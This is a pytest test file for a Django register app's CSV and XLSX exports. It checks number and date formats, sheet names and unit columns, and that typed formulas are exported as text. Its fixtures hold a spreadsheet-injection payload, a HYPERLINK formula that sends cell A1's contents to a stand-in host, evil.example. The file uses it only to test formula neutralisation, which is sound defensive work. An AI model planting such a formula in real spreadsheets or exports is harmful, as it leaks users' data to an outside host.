"""CSV and XLSX exports: typed formulas stay text, real Excel dates and numbers, the unit's name and code."""

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
from django.db import models
from django.urls import reverse
from django.utils.text import capfirst
from django_countries.fields import CountryField

from ngoaivu.core.models import Unit
from ngoaivu.pure.spreadsheets import csv_cell
from ngoaivu.register import workbooks
from ngoaivu.register.area_registry import AREAS
from ngoaivu.register.models import ForeignAid, IncomingDelegation
from ngoaivu.register.value_widgets import NumberWidget
from tests.register.rows import make_row

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
ATTACK = 'HYPERLINK("http://evil.example/?x="&A1,"Bấm")'


def text_fields(area):
    """Every field of the area a person types freely: CharField and TextField without a fixed list."""
    return [
        f
        for f in (area.model._meta.get_field(n) for n in area.form_fields())
        if isinstance(f, (models.CharField, models.TextField)) and not f.choices and not isinstance(f, CountryField)
    ]


def column(field):
    return str(field.verbose_name).capitalize()


def export(client, slug, fmt):
    response = client.get(reverse("register:export", args=[slug, fmt]))
    assert response.status_code == 200
    return response


def csv_rows(response):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def xlsx_sheet(response):
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def header_index(headers, name):
    return headers.index(name)


@pytest.fixture
def attacked(units):
    """attacked(slug) -> (row, {field: typed text}): every free-text field of a VP row starts like a formula."""

    def make(slug):
        area = AREAS[slug]
        row = make_row(slug, units["vp"])
        typed = {}
        for index, field in enumerate(text_fields(area)):
            typed[field.name] = (TRIGGERS[index % len(TRIGGERS)] + ATTACK)[: field.max_length]
        area.model.objects.filter(pk=row.pk).update(**typed)
        return row, typed

    return make


@pytest.mark.parametrize("slug", list(AREAS))
def test_a_formula_typed_into_any_text_field_is_exported_as_text(slug, client_for, attacked):
    area = AREAS[slug]
    _row, typed = attacked(slug)
    assert typed, f"{slug} has no free-text field"
    client = client_for("officer")

    response = export(client, slug, "xlsx")
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml  # no formula anywhere in the sheet
    sheet = xlsx_sheet(response)
    headers = [cell.value for cell in sheet[1]]
    for field in text_fields(area):
        cell = sheet.cell(row=2, column=header_index(headers, column(field)) + 1)
        assert cell.data_type == "s", (slug, field.name)
        assert cell.value == typed[field.name]  # unchanged: the sheet imports back as it was
        assert cell.quotePrefix, (slug, field.name)  # Excel keeps it text even when the cell is edited

    rows = csv_rows(export(client, slug, "csv"))
    for field in text_fields(area):
        assert rows[1][header_index(rows[0], column(field))] == "'" + typed[field.name], (slug, field.name)


def test_a_formula_in_a_units_name_is_text_too(client_for, units):
    Unit.objects.filter(pk=units["vp"].pk).update(name="@SUM(1+1) Văn phòng")
    make_row("doan-vao", units["vp"])
    client = client_for("officer")
    sheet = xlsx_sheet(export(client, "doan-vao", "xlsx"))
    headers = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=headers.index("Đơn vị") + 1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("@SUM(1+1) Văn phòng", "s", True)
    rows = csv_rows(export(client, "doan-vao", "csv"))
    assert rows[1][rows[0].index("Đơn vị")] == "'@SUM(1+1) Văn phòng"


def test_an_exported_formula_imports_back_unchanged(client_for, incoming):
    record = incoming(title="=" + ATTACK, organisation="-Bộ Ngoại giao", notes="+84 255 3822 000")
    client = client_for("officer")
    upload = io.BytesIO(export(client, "doan-vao", "xlsx").content)
    upload.name = "doan-vao.xlsx"
    assert client.post(reverse("register:import", args=["doan-vao"]), {"file": upload}).status_code == 302
    record.refresh_from_db()
    assert (record.title, record.organisation, record.notes) == ("=" + ATTACK, "-Bộ Ngoại giao", "+84 255 3822 000")
    assert IncomingDelegation.objects.count() == 1


@pytest.mark.parametrize("slug", list(AREAS))
def test_every_area_exports_and_imports_back(slug, client_for, units):
    row = make_row(slug, units["vp"])
    model = type(row)
    before = model.objects.count()
    client = client_for("officer")
    upload = io.BytesIO(export(client, slug, "xlsx").content)
    upload.name = f"{slug}.xlsx"
    response = client.post(reverse("register:import", args=[slug]), {"file": upload})
    assert response.status_code == 302, response.context and response.context["problems"]
    assert model.objects.count() == before
    # Read back exactly as kept: the row is found unchanged, so no version is written (nor a copy made).
    assert model.history.filter(id=row.pk).count() == 1


@pytest.mark.parametrize("slug", list(AREAS))
def test_the_sheet_is_named_after_the_area(slug, client_for, units):
    make_row(slug, units["vp"])
    book = openpyxl.load_workbook(io.BytesIO(export(client_for("officer"), slug, "xlsx").content))
    assert book.sheetnames == [capfirst(str(AREAS[slug].title))]  # every Vietnamese name fits in 31 characters
    assert "Tablib" not in book.sheetnames[0]


def test_dates_are_excel_dates_and_numbers_are_numbers(client_for, incoming):
    incoming(start_date=date(2021, 3, 5), end_date=date(2021, 3, 7), groups=2, person_visits=1250)
    client = client_for("officer")
    sheet = xlsx_sheet(export(client, "doan-vao", "xlsx"))
    headers = [cell.value for cell in sheet[1]]
    row = {header: sheet.cell(row=2, column=index + 1) for index, header in enumerate(headers)}
    for name, day in (("Ngày đến", datetime(2021, 3, 5)), ("Ngày đi", datetime(2021, 3, 7))):
        assert row[name].is_date and row[name].value == day
        assert row[name].number_format == "dd/mm/yyyy"
    assert (row["Số lượt người"].value, row["Số lượt người"].data_type) == (1250, "n")
    assert row["Số lượt người"].number_format == "#,##0"
    assert row["Số đoàn"].value == 2 and row["Mã"].data_type == "n" and row["Mã"].number_format == "0"
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.b

    rows = csv_rows(export(client, "doan-vao", "csv"))
    values = dict(zip(rows[0], rows[1]))
    assert (values["Ngày đến"], values["Ngày đi"], values["Số lượt người"]) == ("05/03/2021", "07/03/2021", "1250")


def test_money_has_the_thousands_format_and_a_year_has_none(client_for, units):
    ForeignAid.objects.create(
        unit=units["sngv"],
        title="Nước sạch",
        donor="KOICA",
        country="KR",
        value_vnd=Decimal(4_600_000_000),
        value_original=Decimal("200000.50"),
        currency="USD",
        approved_on=date(2021, 3, 5),
    )
    client = client_for("officer")
    sheet = xlsx_sheet(export(client, "vien-tro", "xlsx"))
    headers = [cell.value for cell in sheet[1]]
    value = sheet.cell(row=2, column=headers.index("Giá trị (đồng)") + 1)
    original = sheet.cell(row=2, column=headers.index("Giá trị nguyên tệ") + 1)
    assert (value.value, value.data_type, value.number_format) == (4_600_000_000, "n", "#,##0")
    assert (original.value, original.number_format) == (200000.5, "#,##0.00")
    make_row("ke-hoach-doan", units["sngv"])
    plans = xlsx_sheet(export(client, "ke-hoach-doan", "xlsx"))
    year = plans.cell(row=2, column=[c.value for c in plans[1]].index("Năm") + 1)
    assert year.data_type == "n" and year.number_format == "0"


def test_the_unit_has_its_name_and_its_code_in_two_columns(client_for, incoming):
    incoming(unit="vp")
    client = client_for("officer")
    sheet = xlsx_sheet(export(client, "doan-vao", "xlsx"))
    headers = [cell.value for cell in sheet[1]]
    at = headers.index("Đơn vị")
    assert headers[at + 1] == "Ký hiệu đơn vị"
    assert [sheet.cell(row=2, column=at + 1).value, sheet.cell(row=2, column=at + 2).value] == [
        "Văn phòng UBND tỉnh",
        "VP",
    ]
    rows = csv_rows(export(client, "doan-vao", "csv"))
    assert rows[1][rows[0].index("Đơn vị")] == "Văn phòng UBND tỉnh"
    assert rows[1][rows[0].index("Ký hiệu đơn vị")] == "VP"


def test_negative_numbers_stay_numbers_only_text_is_neutralised():
    sheet = openpyxl.Workbook().active
    cell = workbooks.fill(sheet["A1"], NumberWidget(), -5)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (-5, "n", False)
    text = workbooks.fill(sheet["A2"], None, "-5 ngày")
    assert (text.value, text.data_type, text.quotePrefix) == ("-5 ngày", "s", True)
    assert csv_cell(-5) == -5
    assert csv_cell(Decimal("-2.5")) == "-2,5"
    assert csv_cell(Decimal("190000.00")) == 190000  # never "190000.00": 19.000.000 to a Vietnamese Excel
    assert csv_cell(Decimal("1234567.50")) == "1234567,5"
    assert csv_cell("-5 ngày") == "'-5 ngày"
    assert csv_cell(date(2021, 3, 5)) == "05/03/2021"


def test_a_soft_line_break_pasted_from_word_does_not_break_the_xlsx(client_for, incoming):
    incoming(content="Làm việc với Sở Công Thương\x0bThăm khu kinh tế Dung Quất\x01")
    sheet = xlsx_sheet(export(client_for("officer"), "doan-vao", "xlsx"))
    headers = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=headers.index("Nội dung làm việc") + 1)
    assert cell.value == "Làm việc với Sở Công Thương\nThăm khu kinh tế Dung Quất"
    assert cell.alignment.wrap_text
